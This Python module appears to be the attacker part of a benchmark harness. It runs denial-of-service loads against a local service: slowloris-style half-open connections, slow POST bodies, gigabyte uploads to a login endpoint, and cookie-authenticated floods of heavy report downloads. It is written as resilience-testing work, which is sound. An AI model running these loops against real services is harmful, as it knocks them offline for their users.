"""Who brings a service down (``python -m bench.attackers KIND PORT COOKIE...``): a process of its own, until it is
ended."""

from __future__ import annotations

import socket
import sys
import threading
import time
from collections.abc import Sequence
from http.client import HTTPConnection

HALF_OPEN, SLOW, LARGE = 300, 100, 4
GIGABYTE = 10**9
PIECE = b"a" * 65536
HEAVY = {
    "ten PDFs at once": "/reports/TH/2026-10.pdf",
    "ten workbooks of a year at once": "/reports/TH/2026.xlsx",
    "ten reports of an odd period at once": "/reports/TH/2026-01-03..2026-10-20",
}


def _connected(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=30)


def half_open(port: int) -> None:
    """Heads that never end, begun again when they are cut off."""
    held: list[socket.socket] = []
    while True:
        while len(held) < HALF_OPEN:
            held.append(_connected(port))
            held[-1].sendall(b"GET /login HTTP/1.1\r\nHost: 127.0.0.1\r\n")
            held[-1].settimeout(0)
        time.sleep(0.5)
        held = [one for one in held if _is_open(one)]


def _is_open(there: socket.socket) -> bool:
    try:
        return there.recv(1) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def slow_bodies(port: int) -> None:
    """Forms of the login of which a byte comes each second."""
    head = b"POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    held: list[socket.socket] = []
    while True:
        while len(held) < SLOW:
            held.append(_connected(port))
            held[-1].sendall(head + b"Content-Length: 100000\r\n\r\n")
        time.sleep(1)
        held = [one for one in held if _sent(one, b"a")]


def _sent(there: socket.socket, data: bytes) -> bool:
    try:
        there.sendall(data)
    except OSError:
        return False
    return True


def gigabytes(port: int) -> None:
    """A gigabyte to the login, several at once, over and over."""

    def send() -> None:
        while True:
            there = _connected(port)
            there.sendall(f"POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {GIGABYTE}\r\n\r\n".encode())
            while _sent(there, PIECE):
                pass
            there.close()

    _at_once([send] * LARGE)


def heavy(port: int, path: str, cookies: Sequence[str]) -> None:
    """The same heavy file asked for by each, over and over."""

    def ask(cookie: str) -> None:
        connection = HTTPConnection("127.0.0.1", port, timeout=300)
        while True:
            connection.request("GET", path, headers={"Cookie": cookie})
            answer = connection.getresponse()
            answer.read()
            if answer.status != 200:
                time.sleep(0.5)

    _at_once([lambda cookie=cookie: ask(cookie) for cookie in cookies])  # type: ignore[misc]


def _at_once(works: Sequence[object]) -> None:
    threads = [threading.Thread(target=work, daemon=True) for work in works]  # type: ignore[arg-type]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


KINDS = {"300 half-open connections": half_open, "100 slow forms": slow_bodies, "gigabytes to the login": gigabytes}


def main() -> None:
    """Attack as the command line says."""
    kind, port, *cookies = sys.argv[1:]
    if kind in HEAVY:
        heavy(int(port), HEAVY[kind], cookies)
    else:
        KINDS[kind](int(port))


if __name__ == "__main__":
    main()
